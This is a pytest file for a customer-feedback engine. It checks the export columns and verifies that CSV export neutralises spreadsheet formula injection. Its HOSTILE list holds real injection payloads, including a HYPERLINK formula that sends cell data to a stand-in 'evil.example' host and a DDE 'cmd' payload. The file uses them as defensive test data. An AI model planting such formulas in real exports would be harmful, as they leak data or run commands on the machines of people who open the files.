"""feedback_rows: the export contract with the NLP stage, before and after analysis; CSV formula injection."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from feedback_engine.cli import main
from feedback_engine.ingest.export import EXPORT_COLUMNS, csv_safe
from feedback_engine.store import Store
from tests.ingest.conftest import SURVEYS

ANALYSIS = """
CREATE TABLE IF NOT EXISTS analysis (
    feedback_id INTEGER PRIMARY KEY REFERENCES feedback(id), content_hash TEXT, language TEXT, is_english INTEGER,
    redacted_text TEXT, sentiment TEXT, sentiment_score REAL, sentiment_probs TEXT, aspects TEXT, embedding BLOB,
    model_version TEXT, analyzed_at TEXT
)"""
SENTENCES = """
CREATE TABLE IF NOT EXISTS sentences (
    feedback_id INTEGER REFERENCES feedback(id), idx INTEGER, start_char INTEGER, end_char INTEGER, text TEXT,
    redacted_text TEXT, sentiment TEXT, sentiment_score REAL, aspects TEXT, embedding BLOB,
    PRIMARY KEY (feedback_id, idx)
)"""


def test_rows_have_the_contract_columns_before_analysis(engine):
    engine.ingest.surveys(SURVEYS / "plain_id_text.csv")
    rows = list(engine.ingest.rows())
    assert len(rows) == 25
    assert list(rows[0]) == EXPORT_COLUMNS
    assert {rows[0][c] for c in ("sentiment", "sentiment_score", "theme_id", "theme_label", "redacted_text")} == {None}


def test_analysis_language_theme_survivor_and_sentences(engine):
    engine.ingest.surveys(SURVEYS / "plain_id_text.csv")
    conn = engine.store.conn
    conn.execute(ANALYSIS)
    conn.execute(SENTENCES)
    conn.execute(
        "INSERT INTO analysis (feedback_id, content_hash, language, is_english, redacted_text, sentiment,"
        " sentiment_score, model_version, analyzed_at) VALUES (1, 'h', 'de', 0, 'redacted', 'positive', 0.8, 'v1', 'now')"
    )
    conn.execute(
        "INSERT INTO sentences (feedback_id, idx, start_char, end_char, text, redacted_text, sentiment, sentiment_score)"
        " VALUES (1, 0, 0, 10, 'First one.', 'First one.', 'positive', 0.7), (1, 1, 11, 20, 'Second.', 'Second.',"
        " 'negative', -0.5), (3, 0, 0, 5, 'Third', 'Third', 'neutral', 0.0)"
    )
    conn.execute(
        "INSERT INTO themes (id, label, status, merged_into, created_at, updated_at) VALUES"
        " (2, 'Billing', 'active', NULL, 'now', 'now'), (1, 'Invoices', 'merged', 2, 'now', 'now')"
    )
    conn.execute(
        "INSERT INTO theme_assignments (feedback_id, sentence_idx, theme_id, assigned_at) VALUES"
        " (1, -1, 1, 'now'), (1, 0, 1, 'now')"
    )
    conn.commit()
    rows = {r["id"]: r for r in engine.ingest.rows(sentences=True)}
    first = rows[1]
    assert (first["language"], first["source_language"], first["sentiment"], first["redacted_text"]) == (
        "de", None, "positive", "redacted",
    )  # fmt: skip
    assert (first["theme_id"], first["theme_label"]) == (2, "Billing")  # merged theme resolved to its survivor
    assert [(s["idx"], s["sentiment"], s["theme_id"]) for s in first["sentences"]] == [
        (0, "positive", 2),
        (1, "negative", None),
    ]
    assert rows[2]["sentences"] == [] and rows[2]["sentiment"] is None
    assert [s["text"] for s in rows[3]["sentences"]] == ["Third"]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _hostile_db(tmp_path: Path) -> Path:
    """A survey import whose comments (and one customer name) are spreadsheet formulas, with analysis rows."""
    source = tmp_path / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "email", "comment"])
        for i, text in enumerate(HOSTILE, start=1):
            writer.writerow([f"r{i}", f"user{i}@example.com", text])
        writer.writerow(["r99", "plain@example.com", "A plain comment - with a dash inside."])
    db = tmp_path / "feedback.db"
    result = CliRunner().invoke(
        main,
        ["--db", str(db), "ingest", "surveys", str(source), "--text-column", "comment", "--id-column", "id",
         "--email-column", "email"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    with Store(db) as store:
        ids = [r["id"] for r in store.query("SELECT id FROM feedback ORDER BY id")]
        assert len(ids) == len(HOSTILE) + 1
        store.execute("UPDATE customers SET display_name = '=1+2'")
        # the import strips leading whitespace from texts; a title can still start with a tab or CR
        store.execute("UPDATE feedback SET title = ? WHERE id = ?", ("\t=1", ids[0]))
        store.execute("UPDATE feedback SET title = ? WHERE id = ?", ("\r@SUM(1)", ids[1]))
        for fid, score in zip(ids, [-0.5, 0.25, -1.0, 0.0, -0.75, 0.5, -0.125, 0.9], strict=False):
            store.execute(
                "INSERT INTO analysis (feedback_id, content_hash, language, is_english, redacted_text, sentiment,"
                " sentiment_score, model_version, analyzed_at) VALUES (?, 'h', 'en', 1, '-redacted', ?, ?, 'v1', 'now')",
                (fid, "negative" if score < 0 else "positive", score),
            )
        store.conn.commit()
    return db


def _stored_texts(db: Path) -> list[str]:
    with Store(db) as store:
        return [r["text"] for r in store.query("SELECT text FROM feedback ORDER BY id")]


@pytest.mark.parametrize("to_file", [True, False], ids=["-o file", "stdout"])
def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path, to_file):
    db = _hostile_db(tmp_path)
    out = tmp_path / "out.csv"
    args = ["--db", str(db), "export", "feedback", "--format", "csv"] + (["-o", str(out)] if to_file else [])
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    text = (out.read_bytes() if to_file else result.stdout_bytes).decode("utf-8")
    assert text.startswith("id,natural_key,") and text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    stored = _stored_texts(db)
    assert [r["text"] for r in rows] == [("'" + t if t[:1] in "=+-@\t\r" else t) for t in stored]
    formulas = [r["text"] for r in rows[: len(HOSTILE)]]
    assert all(t.startswith("'") for t in formulas), formulas
    assert "'=HYPERLINK(" in formulas[0] and "'+1" in formulas and "'-2+3" in formulas and "'@SUM(A1:A9)" in formulas
    assert rows[-1]["text"] == "A plain comment - with a dash inside."
    assert [r["title"] for r in rows[:3]] == ["'\t=1", "'\r@SUM(1)", ""]
    assert {r["customer_name"] for r in rows} == {"'=1+2"}
    assert {r["redacted_text"] for r in rows} == {"'-redacted"}
    # numeric columns stay numbers: a negative sentiment score is not turned into text
    assert [r["sentiment_score"] for r in rows] == ["-0.5", "0.25", "-1.0", "0.0", "-0.75", "0.5", "-0.125", "0.9"]
    assert all(r["id"].isdigit() and r["customer_id"].isdigit() for r in rows)


def test_csv_safe_is_the_one_guard_of_both_exports():
    from feedback_engine.loop import actions

    assert actions._csv_safe is csv_safe
    for value in ("=1", "+1", "-1", "@a", "\tx", "\rx"):
        assert csv_safe(value) == "'" + value
    for value in (-0.5, -3, 0, None, "plain", "", "'=already quoted", " =space first"):
        assert csv_safe(value) == value
